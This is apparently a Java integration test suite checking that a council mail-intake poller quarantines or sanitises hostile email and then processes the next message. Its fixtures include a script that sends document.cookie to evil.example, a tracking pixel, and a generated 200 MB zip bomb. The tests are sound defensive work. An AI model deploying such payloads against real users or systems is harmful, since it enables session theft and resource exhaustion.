package org.redbox.intake.mail;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;
import java.util.UUID;
import java.util.zip.Deflater;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.redbox.contacts.ContactManagement;
import org.redbox.correspondence.CaseFile;
import org.redbox.correspondence.internal.CaseDocuments;
import org.redbox.correspondence.internal.CaseFiles;
import org.redbox.directory.Role;
import org.redbox.documents.Documents;
import org.redbox.documents.StoredDocument;
import org.redbox.intake.acknowledgement.AcknowledgementMailer;
import org.redbox.support.DemoOffices;
import org.redbox.support.DemoStaff;
import org.redbox.support.IntegrationTest;
import org.redbox.support.TestMailConfiguration;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.context.annotation.Import;

import com.icegreen.greenmail.util.GreenMail;

/**
 * Each hostile or broken message, followed by an ordinary one: the poller deals with the first
 * (a safe case, or quarantine with the reason) and always goes on to the second.
 */
@IntegrationTest
@Import(TestMailConfiguration.class)
class MailHostileInputIT {

	private static final String NEXT = "An ordinary letter after it";

	@Autowired
	GreenMail greenMail;
	@Autowired
	Mailboxes mailboxes;
	@Autowired
	AcknowledgementMailer acknowledgementMailer;
	@Autowired
	MailboxPoller poller;
	@Autowired
	MailQuarantine quarantine;
	@Autowired
	CaseFiles cases;
	@Autowired
	CaseDocuments caseDocuments;
	@Autowired
	Documents documents;
	@Autowired
	ContactManagement contacts;
	@Autowired
	DemoOffices offices;
	@Autowired
	DemoStaff demo;

	ImapTestAccount account;
	Mailbox mailbox;

	@BeforeEach
	void anOfficeMailbox() {
		account = GreenMailAccounts.fresh(greenMail);
		mailbox = mailboxes.add(offices.mayor().id(), account.mailbox("Hostile"));
	}

	@AfterEach
	void switchItOff() {
		mailboxes.enable(mailbox.id(), false);
		IntakeMailFixture.sendAllOwed(acknowledgementMailer);
	}

	@Test
	void malformedMimeIsQuarantinedWithItsReasonSubjectAndSender() {
		PollResult result = pollAfter(TestMessages.headers("Gil Brand <gil@example.org>", "Broken structure",
				"<broken-" + UUID.randomUUID() + "@example.org>")
				+ "Content-Type: multipart/mixed; boundary=\"never-used\"\r\n\r\nno parts here at all\r\n");

		assertQuarantined(result, "Broken structure", "cannot be read");
		QuarantinedMail entry = openEntry("Broken structure");
		assertThat(entry.sender()).contains("gil@example.org");
		assertThat(entry.receivedAt()).isNotNull();
	}

	@Test
	void textInAnUnknownCharsetStillBecomesACase() {
		PollResult result = pollAfter(TestMessages.headers("Hana Mori <hana@example.org>", "Unknown charset",
				"<cs-" + UUID.randomUUID() + "@example.org>")
				+ "Content-Type: text/plain; charset=\"x-unheard-of-8\"\r\n\r\nThe park gates are locked.\r\n");

		assertThat(result.logged()).isEqualTo(2);
		assertThat(caseOf(result, 0).incomingText()).isEqualTo("The park gates are locked.");
	}

	@Test
	void aMessageWithoutASenderIsQuarantined() {
		PollResult result = pollAfter(TestMessages.plain(null, "Nobody wrote this", "Who am I?"));

		assertQuarantined(result, "Nobody wrote this", "no sender");
	}

	@Test
	void aMessageForgedToComeFromTheOfficeItselfIsQuarantined() {
		PollResult result = pollAfter(TestMessages.plain("Mayor <Correspondence@Exampleton.gov.uk>", "Please pay this invoice", "Pay."));

		assertQuarantined(result, "Please pay this invoice", "office's own address");
	}

	@Test
	void aFiftyMegabyteMessageIsQuarantinedWithoutBeingReadIntoACase() {
		String big = TestMessages.plain("Ivo Petrov <ivo@example.org>", "Fifty megabytes", "x".repeat(1000) + "\r\n")
				+ ("y".repeat(998) + "\r\n").repeat(50 * 1024);

		PollResult result = pollAfter(big);

		assertQuarantined(result, "Fifty megabytes", "larger than 25 MB");
	}

	@Test
	void aZipBombIsKeptAsTheFileThatCameAndNeverOpened() throws IOException {
		byte[] bomb = zipOfZeros(200 * 1024 * 1024);

		PollResult result = pollAfter(TestMessages.html("Jo Kerr <jo@example.org>", "Please see the zip", "See attached.",
				"<p>See attached.</p>", "photos.zip", Base64.getMimeEncoder().encodeToString(bomb)));

		assertThat(result.logged()).isEqualTo(2);
		StoredDocument zip = filesOf(caseOf(result, 0)).stream().filter(d -> d.filename().equals("photos.zip")).findFirst()
				.orElseThrow();
		assertThat(zip.size()).isEqualTo(bomb.length).isLessThan(1024 * 1024);
	}

	@Test
	void scriptsAndTrackingPixelsAreRemovedFromTheHtmlKeptWithTheCase() {
		PollResult result = pollAfter(TestMessages.html("Kai Lund <kai@example.org>", "Newsletter-style letter", null,
				"<p>Dear Mayor,</p><script>fetch('https://evil.example/'+document.cookie)</script>"
						+ "<img src=\"https://track.example/p.gif?id=42\" width=\"1\" height=\"1\">"
						+ "<p onmouseover=\"x()\">The bridge is <b>unsafe</b>.</p>",
				null, null));

		assertThat(result.logged()).isEqualTo(2);
		CaseFile logged = caseOf(result, 0);
		assertThat(logged.incomingText()).isEqualTo("Dear Mayor,\n\nThe bridge is unsafe.");
		StoredDocument html = filesOf(logged).stream().filter(d -> d.filename().equals("message.html")).findFirst()
				.orElseThrow();
		assertThat(new String(documents.content(html), StandardCharsets.UTF_8))
				.contains("<b>unsafe</b>").doesNotContain("script", "track.example", "<img", "onmouseover");
	}

	@Test
	void aSenderWithQuotesAndUnicodeBecomesAContactUnderTheirOwnName() {
		String address = "zoe." + UUID.randomUUID().toString().substring(0, 6) + "@example.se";
		PollResult result = pollAfter(TestMessages.plain("\"Zoë \\\"Zed\\\" Ångström, Ph.D.\" <" + address + ">",
				"Tack så mycket", "Thank you for fixing the lights."));

		assertThat(result.logged()).isEqualTo(2);
		assertThat(contacts.findByEmail(offices.mayor().id(), address))
				.hasValueSatisfying(c -> assertThat(c.name()).isEqualTo("Zoë \"Zed\" Ångström, Ph.D."));
		assertThat(caseOf(result, 0).subject()).isEqualTo("Tack så mycket");
	}

	@Test
	void anAttachmentOverTheSizeLimitIsQuarantined() {
		byte[] eleven = new byte[11 * 1024 * 1024];
		new java.util.Random(7).nextBytes(eleven);

		PollResult result = pollAfter(TestMessages.html("Lea Roth <lea@example.org>", "Huge scan", "Scan attached.",
				"<p>Scan attached.</p>", "scan.tiff", Base64.getMimeEncoder().encodeToString(eleven)));

		assertQuarantined(result, "Huge scan", "larger than 10 MB");
	}

	/** Puts the message and an ordinary one after it in the inbox, and polls once. */
	private PollResult pollAfter(String hostile) {
		account.append(hostile, TestMessages.plain("Max Hill <max@example.org>", NEXT, "Nothing unusual."));
		PollResult result = poller.poll(mailbox);
		assertThat(result.error()).isNull();
		assertThat(account.count("INBOX")).as("nothing left behind").isZero();
		assertThat(account.subjects("Redbox/Processed")).as("the poller went on to the next message").contains(NEXT);
		return result;
	}

	private void assertQuarantined(PollResult result, String subject, String reason) {
		assertThat(result.quarantined()).isEqualTo(1);
		assertThat(result.logged()).isEqualTo(1);
		assertThat(account.subjects("Redbox/Quarantine")).containsExactly(subject);
		assertThat(openEntry(subject).reason()).contains(reason);
	}

	private QuarantinedMail openEntry(String subject) {
		return quarantine.open(List.of(offices.mayor().id()), 1000).stream()
				.filter(q -> q.mailboxId().equals(mailbox.id()) && subject.equals(q.subject())).findFirst().orElseThrow();
	}

	private CaseFile caseOf(PollResult result, int index) {
		return cases.findByReference(result.references().get(index)).orElseThrow();
	}

	private List<StoredDocument> filesOf(CaseFile c) {
		return caseDocuments.of(demo.holding(Role.CORRESPONDENCE_MANAGER), c.id().value());
	}

	private static byte[] zipOfZeros(int size) throws IOException {
		var bytes = new ByteArrayOutputStream();
		try (var zip = new ZipOutputStream(bytes)) {
			zip.setLevel(Deflater.BEST_COMPRESSION);
			zip.putNextEntry(new ZipEntry("photos.tar"));
			byte[] zeros = new byte[1024 * 1024];
			for (int i = 0; i < size / zeros.length; i++) {
				zip.write(zeros);
			}
			zip.closeEntry();
		}
		return bytes.toByteArray();
	}
}
